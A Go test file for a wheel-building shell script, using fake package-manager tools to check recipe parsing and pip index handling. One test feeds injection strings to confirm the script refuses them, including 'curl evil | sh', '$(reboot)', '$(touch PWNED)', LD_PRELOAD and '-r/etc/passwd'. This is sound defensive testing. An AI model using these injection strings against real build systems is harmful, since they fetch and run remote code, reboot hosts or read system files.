package podman

import (
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

// The builder entrypoint is POSIX sh; these tests run it on the host with fake
// dnf, apt-get and python3 on PATH that record how they were called.

const fakeTool = `#!/bin/sh
{ printf '%s' "$(basename "$0")"; for a in "$@"; do printf ' [%s]' "$a"; done; printf ' CFLAGS=%s' "${CFLAGS:-}"; case "$(basename "$0")" in python*) printf ' PIP_INDEX_URL=%s PIP_EXTRA_INDEX_URL=%s' "${PIP_INDEX_URL:-}" "${PIP_EXTRA_INDEX_URL:-}";; esac; printf '\n'; } >>"$CALLS"
if [ "${1:-}" = --version ]; then echo "Python 3.11.0"; fi
prev=
for a in "$@"; do
	if [ "$prev" = -w ] && [ -n "${FAKE_WHEEL:-}" ]; then echo wheel >"$a/$FAKE_WHEEL"; fi
	prev=$a
done
`

func runBuilderScript(t *testing.T, env map[string]string) (calls string, out string, code int) {
	t.Helper()
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Skip("skipping: sh not found")
	}
	dir := t.TempDir()
	bin := filepath.Join(dir, "bin")
	if err := os.MkdirAll(bin, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, tool := range []string{"python3", "python3.11", "dnf", "apt-get"} {
		if err := os.WriteFile(filepath.Join(bin, tool), []byte(fakeTool), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	callsFile := filepath.Join(dir, "calls")
	if err := os.MkdirAll(filepath.Join(dir, "out"), 0o755); err != nil {
		t.Fatal(err)
	}
	c := exec.Command(sh, "../../builder/refinery-build")
	c.Dir = "."
	c.Env = []string{"PATH=" + bin + ":/usr/bin:/bin", "CALLS=" + callsFile,
		"OUTPUT=" + filepath.Join(dir, "out"), "CACHE=" + filepath.Join(dir, "cache")}
	for k, v := range env {
		c.Env = append(c.Env, k+"="+v)
	}
	b, _ := c.CombinedOutput()
	data, _ := os.ReadFile(callsFile)
	if env["FAKE_WHEEL"] != "" {
		if _, err := os.Stat(filepath.Join(dir, "out", env["FAKE_WHEEL"])); err != nil {
			t.Errorf("wheel not moved to the output dir: %v", err)
		}
	}
	return strings.ReplaceAll(string(data), dir, "$TMP"), string(b), c.ProcessState.ExitCode()
}

func TestBuilderScriptRecipes(t *testing.T) {
	calls, out, code := runBuilderScript(t, map[string]string{
		"JOB_NAME": "lxml", "JOB_VERSION": "5.2.1", "PYTHON_VERSION": "3.11",
		"RECIPES":         "dnf:libxml2-devel,apt:libxml2-dev,pip:cython<3,env:CFLAGS=-O2",
		"INDEX_URL":       "http://127.0.0.1:1/simple/",
		"EXTRA_INDEX_URL": "http://127.0.0.1:2/simple/ http://127.0.0.1:3/simple/",
		"FAKE_WHEEL":      "lxml-5.2.1-cp311-cp311-linux_x86_64.whl",
	})
	if code != 0 {
		t.Fatalf("exit %d\n%s", code, out)
	}
	calls = regexp.MustCompile(`/tmp/refinery-wheels\.[A-Za-z0-9]+`).ReplaceAllString(calls, "$$WORK")
	// The index URLs (which may hold credentials) reach pip by its
	// environment; none is on a command line.
	common := "[--disable-pip-version-check]"
	pipEnv := " PIP_INDEX_URL=http://127.0.0.1:1/simple/ PIP_EXTRA_INDEX_URL=http://127.0.0.1:2/simple/ http://127.0.0.1:3/simple/"
	want := []string{
		"python3.11 [--version] CFLAGS=-O2 PIP_INDEX_URL= PIP_EXTRA_INDEX_URL=",
		"dnf [install] [-y] [--setopt=install_weak_deps=False] [libxml2-devel] CFLAGS=-O2",
		"apt-get [update] CFLAGS=-O2",
		"apt-get [install] [-y] [--no-install-recommends] [libxml2-dev] CFLAGS=-O2",
		"python3.11 [-m] [pip] [install] [--cache-dir=$TMP/cache/pip] " + common + " [cython<3] CFLAGS=-O2" + pipEnv,
		"python3.11 [-m] [pip] [wheel] [--no-deps] [--no-cache-dir] " + common + " [--no-build-isolation] [-w] [$WORK] [lxml==5.2.1] CFLAGS=-O2" + pipEnv,
	}
	if got := strings.Split(strings.TrimSpace(calls), "\n"); strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Fatalf("calls:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

func TestBuilderScriptFailsWithoutWheel(t *testing.T) {
	_, out, code := runBuilderScript(t, map[string]string{"JOB_NAME": "x", "JOB_VERSION": "1.0"})
	if code != 2 || !strings.Contains(out, "pip wheel produced no wheel") {
		t.Fatalf("exit %d\n%s", code, out)
	}
}

func TestBuilderScriptRefusesHostileInput(t *testing.T) {
	tests := []struct {
		name string
		env  map[string]string
	}{
		{"LD_PRELOAD", map[string]string{"RECIPES": "env:LD_PRELOAD=/tmp/x.so"}},
		{"shell in dnf", map[string]string{"RECIPES": "dnf:gcc; curl evil | sh"}},
		{"command substitution", map[string]string{"RECIPES": "pip:$(touch PWNED)"}},
		{"option injection", map[string]string{"RECIPES": "pip:-r/etc/passwd"}},
		{"unknown manager", map[string]string{"RECIPES": "brew:x"}},
		{"env value with space", map[string]string{"RECIPES": "env:CFLAGS=-O2 -I/x"}},
		{"env sets JOB_NAME", map[string]string{"RECIPES": "env:JOB_NAME=x"}},
		{"version", map[string]string{"JOB_VERSION": "$(reboot)"}},
		{"name", map[string]string{"JOB_NAME": "--index-url=http://evil"}},
		{"python version", map[string]string{"PYTHON_VERSION": "3;reboot"}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			env := map[string]string{"JOB_NAME": "numpy", "JOB_VERSION": "1.0"}
			for k, v := range tc.env {
				env[k] = v
			}
			calls, out, code := runBuilderScript(t, env)
			if code != 2 {
				t.Fatalf("exit %d, want 2\n%s", code, out)
			}
			if strings.Contains(calls, "install") || strings.Contains(calls, "wheel") {
				t.Errorf("tools ran despite the refusal:\n%s", calls)
			}
			if _, err := os.Stat("PWNED"); err == nil {
				os.Remove("PWNED")
				t.Fatal("recipe text was executed")
			}
		})
	}
}
